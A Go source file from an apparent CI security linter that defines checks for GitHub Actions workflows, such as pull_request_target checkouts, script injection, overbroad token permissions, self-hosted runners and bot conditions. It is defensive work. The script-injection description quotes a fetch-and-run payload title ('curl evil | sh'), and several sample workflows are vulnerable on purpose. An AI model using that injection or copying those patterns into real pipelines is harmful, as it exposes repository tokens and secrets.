package pipeline

import (
	"slices"
	"strings"

	"github.com/plimsoll/plimsoll/finding"
	"github.com/plimsoll/plimsoll/internal/read/pipeline"
	"github.com/plimsoll/plimsoll/internal/shell"
	"github.com/plimsoll/plimsoll/internal/tree"
)

// triggers lists the checks for who may make a workflow run, and what of them it runs.
func triggers() []Check {
	return []Check{untrustedCheckout(), scriptInjection(), permissions(), noPermissions(), selfHosted(), botCondition()}
}

// ofPullRequest knows expressions for the code of a pull request.
var ofPullRequest = matcher(`github\.(event\.pull_request\.(head|merge_commit_sha)|head_ref|event\.workflow_run\.(head_sha|head_branch|head_commit)|event\.number|event\.pull_request\.number|event\.issue\.number)`)

func untrustedCheckout() Check {
	return Check{
		kinds: flows,
		Card: card("untrusted-checkout", "a workflow with the repository's secrets runs a pull request's code", finding.High,
			"pull_request_target, workflow_run and issue_comment run with a token that may write and with all secrets, also for pull requests of\nstrangers. With their code checked out, any build script, test or dependency of it gets those.",
			"Use the trigger pull_request for what runs the pull request's code, and hand results on as artifacts that the privileged workflow reads\nas data. Or keep an environment with required reviewers before it.",
			"on: pull_request_target\npermissions: {contents: read}\njobs:\n  build:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: make\n",
			"on: pull_request\npermissions: {contents: read}\njobs:\n  build:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n",
			"zizmor/dangerous-triggers"),
		look: func(f *pipeline.File) (hits []hit) {
			privileged := []string{"pull_request_target", "workflow_run", "issue_comment"} // the most usual first
			at := slices.IndexFunc(privileged, func(e string) bool { return slices.Contains(events(f), e) })
			if at < 0 {
				return nil
			}
			event := privileged[at]
			for _, j := range f.Jobs {
				for _, s := range j.Steps {
					at := checksOut(s)
					if at.Line == 0 || trusted(j, s) {
						continue
					}
					h := hit{step: s, at: at, field: "checkout on " + event, detail: event}
					if mitigated(j, s) {
						h.severity = finding.Medium
					}
					hits = append(hits, h)
				}
			}
			return hits
		},
	}
}

// mitigated says that it is less bad: somebody may have to approve, a label has to be set, the code lies in
// a folder of its own beside the scripts that run, or nothing runs after it.
func mitigated(j *pipeline.Job, s *pipeline.Step) bool {
	condition := j.Value.Get("if").String() + s.Value.Get("if").String()
	return j.Value.Get("environment") != nil || s.Value.Get("with", "path") != nil || strings.Contains(condition, ".labels.") || !runsAfter(j, s)
}

// checksOut is where a step fetches a pull request's code; the zero place where it does not.
func checksOut(s *pipeline.Step) shell.Pos {
	if action, _ := uses(s.Uses); action == "actions/checkout" {
		for _, key := range []string{"ref", "repository"} {
			v := s.Value.Get("with", key)
			for _, e := range expressionsIn(v.String()) {
				if ofPullRequest(e) && (key == "repository" || !strings.Contains(e, "number") || strings.Contains(v.Text, "refs/pull")) {
					return place(v)
				}
			}
		}
	}
	if s.Script != nil {
		for _, c := range s.Script.Commands {
			if c.Name == "gh" && strings.HasPrefix(joined(c), "pr checkout") {
				return c.Pos
			}
		}
	}
	return shell.Pos{}
}

func joined(c *shell.Command) string {
	var all []string
	for _, a := range c.Args {
		all = append(all, a.Text)
	}
	return strings.Join(all, " ")
}

// trusted says that a condition keeps strangers out: one on who asks, or on where the code lies.
func trusted(j *pipeline.Job, s *pipeline.Step) bool {
	for _, v := range []*tree.Value{j.Value.Get("if"), s.Value.Get("if")} {
		for _, word := range []string{"author_association", "head.repo.full_name == github.repository", "head_repository.full_name == github.repository", "event == 'push'", "event != 'pull_request'", "github.event.label.name", "head.repo.fork == false", "!github.event.pull_request.head.repo.fork"} {
			if strings.Contains(v.String(), word) {
				return true
			}
		}
	}
	return false
}

// runsAfter says that a later step runs something.
func runsAfter(j *pipeline.Job, s *pipeline.Step) bool {
	i := slices.Index(j.Steps, s)
	return slices.ContainsFunc(j.Steps[i:], func(later *pipeline.Step) bool {
		return later.Run != nil || later.Uses != nil && later != s
	})
}

// said knows expressions whose value is a stranger's own words.
var said = matcher(`github\.(event\.(issue|pull_request|discussion)\.(title|body)|event\.(comment|review|review_comment)\.body|event\.pages\..*\.page_name|event\.(head_commit|commits\S*)\.(message|author\.(name|email))|head_ref|event\.pull_request\.head\.(ref|label|repo\.default_branch)|event\.workflow_run\.(head_branch|head_commit\.(message|author\.(name|email))|display_title|pull_requests\S*\.head\.ref)|event\.discussion\.(title|body))`)

// given knows expressions whose value a person with rights chooses.
var given = matcher(`^(inputs\.|github\.event\.inputs\.)`)

func scriptInjection() Check {
	return Check{
		kinds: github,
		Card: card("script-injection", "a stranger's words become a part of a script", finding.High,
			"GitHub puts the text there before the shell reads it: a title such as \"; curl evil | sh; \" runs, with the job's token and secrets.",
			"Hand it over as a variable, which the shell does not read as code: env: {TITLE: ${{ github.event.issue.title }}}, then \"$TITLE\" in run.",
			"on: issues\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\"\n",
			"on: issues\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: echo \"$TITLE\"\n        env:\n          TITLE: ${{ github.event.issue.title }}\n",
			"zizmor/template-injection", "checkov/CKV_GHA_2"),
		look: func(f *pipeline.File) (hits []hit) {
			event := fromStrangers(f)
			eachStep(f, func(s *pipeline.Step) {
				for _, e := range codeOf(s) {
					h := hit{step: s, at: e.Pos, field: "run " + e.Text, detail: e.Text}
					switch {
					case said(e.Text) && !strings.HasPrefix(e.Text, "contains("):
						if event == "" || f.Kind == pipeline.Action {
							h.severity = finding.Medium // a fork's pull request has no secrets
						}
					case given(e.Text):
						h.severity = finding.Low
					default:
						continue
					}
					hits = append(hits, h)
				}
			})
			return hits
		},
	}
}

// codeOf are the expressions in what a step runs: its run, or the script of actions/github-script.
func codeOf(s *pipeline.Step) (all []pipeline.Expression) {
	v := s.Run
	if action, _ := uses(s.Uses); action == "actions/github-script" {
		v = s.Value.Get("with", "script")
	}
	if v == nil {
		return nil
	}
	if s.Script != nil {
		for _, e := range s.Expressions {
			all = append(all, e)
		}
		slices.SortFunc(all, func(a, b pipeline.Expression) int { return 1000*(a.Line-b.Line) + a.Column - b.Column })
		return all
	}
	for _, e := range expressionsIn(v.Text) {
		all = append(all, pipeline.Expression{Text: e, Pos: place(v)})
	}
	return all
}

func permissions() Check {
	return Check{
		kinds: flows,
		Card: card("write-all", "a workflow's token may write everything", finding.Medium,
			"Whatever runs in it, each dependency's script too, can push code, publish packages and change releases.",
			"Write permissions: {contents: read} for the workflow, and what a job writes in that job alone.",
			"on: push\npermissions: write-all\njobs: {}\n", "on: push\npermissions: {contents: read}\njobs: {}\n",
			"zizmor/excessive-permissions", "checkov/CKV2_GHA_1"),
		look: func(f *pipeline.File) (hits []hit) {
			if v := f.Root.Get("permissions"); v.Is("write-all") {
				hits = append(hits, hit{at: place(v), field: "permissions"})
			}
			for _, j := range f.Jobs {
				if v := j.Value.Get("permissions"); v.Is("write-all") {
					hits = append(hits, hit{job: j, at: place(v), field: "permissions"})
				}
			}
			return hits
		},
	}
}

func noPermissions() Check {
	return Check{
		kinds: flows,
		Card: card("no-permissions", "nothing says what a job's token may do", finding.Low,
			"It may do what the organisation's or repository's setting says, in older ones: write everything.",
			"Write permissions: {contents: read} on top of the workflow.",
			"on: push\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps: []\n", "on: push\npermissions: {contents: read}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps: []\n"),
		look: func(f *pipeline.File) (hits []hit) {
			if f.Root.Get("permissions") != nil {
				return nil
			}
			for _, j := range f.Jobs {
				if j.Value.Get("permissions") == nil {
					hits = append(hits, hit{job: j, at: shell.Pos{Line: j.Line, Column: 1}, field: "permissions", detail: j.Name})
				}
			}
			return hits
		},
	}
}

func selfHosted() Check {
	return Check{
		kinds: flows,
		Card: card("self-hosted-runner", "strangers' pull requests run on a machine of one's own", finding.Medium,
			"In a public repository anybody's pull request runs there, and what it leaves behind meets the next job: tools, caches, a process\nthat waits for secrets.",
			"Use hosted runners for pull requests, or machines that are made anew for each job; and require approval for all outside contributors.",
			"on: pull_request\npermissions: {contents: read}\njobs:\n  a:\n    runs-on: self-hosted\n    steps: []\n", "on: pull_request\npermissions: {contents: read}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps: []\n",
			"zizmor/self-hosted-runner"),
		look: func(f *pipeline.File) (hits []hit) {
			all := events(f)
			if !slices.Contains(all, "pull_request") && !slices.Contains(all, "pull_request_target") {
				return nil
			}
			for _, j := range f.Jobs {
				on := j.Value.Get("runs-on")
				for _, v := range append(on.Items(), on.Get("labels").Items()...) {
					if v.Is("self-hosted") && !trusted(j, &pipeline.Step{Job: j, Value: &tree.Value{}}) {
						hits = append(hits, hit{job: j, at: place(v), field: "runs-on", detail: j.Name})
					}
				}
			}
			return hits
		},
	}
}

func botCondition() Check {
	return Check{
		kinds: flows,
		Card: card("bot-condition", "a condition trusts whoever acted last", finding.Medium,
			"github.actor is who did the last thing, not whose code it is: a stranger can make Dependabot act on a pull request of theirs.",
			"Ask for the author: github.event.pull_request.user.login == 'dependabot[bot]'.",
			"on: pull_request_target\npermissions: {}\njobs:\n  a:\n    if: github.actor == 'dependabot[bot]'\n    runs-on: ubuntu-24.04\n    steps: []\n",
			"on: pull_request_target\npermissions: {}\njobs:\n  a:\n    if: github.event.pull_request.user.login == 'dependabot[bot]'\n    runs-on: ubuntu-24.04\n    steps: []\n",
			"zizmor/bot-conditions"),
		look: func(f *pipeline.File) (hits []hit) {
			if fromStrangers(f) == "" {
				return nil
			}
			look := func(j *pipeline.Job, s *pipeline.Step, v *tree.Value) {
				if t := v.String(); strings.Contains(t, "github.actor ==") && strings.Contains(t, "[bot]") && !strings.Contains(t, "user.login ==") {
					hits = append(hits, hit{job: j, step: s, at: place(v), field: "if"})
				}
			}
			for _, j := range f.Jobs {
				look(j, nil, j.Value.Get("if"))
				for _, s := range j.Steps {
					look(j, s, s.Value.Get("if"))
				}
			}
			return hits
		},
	}
}
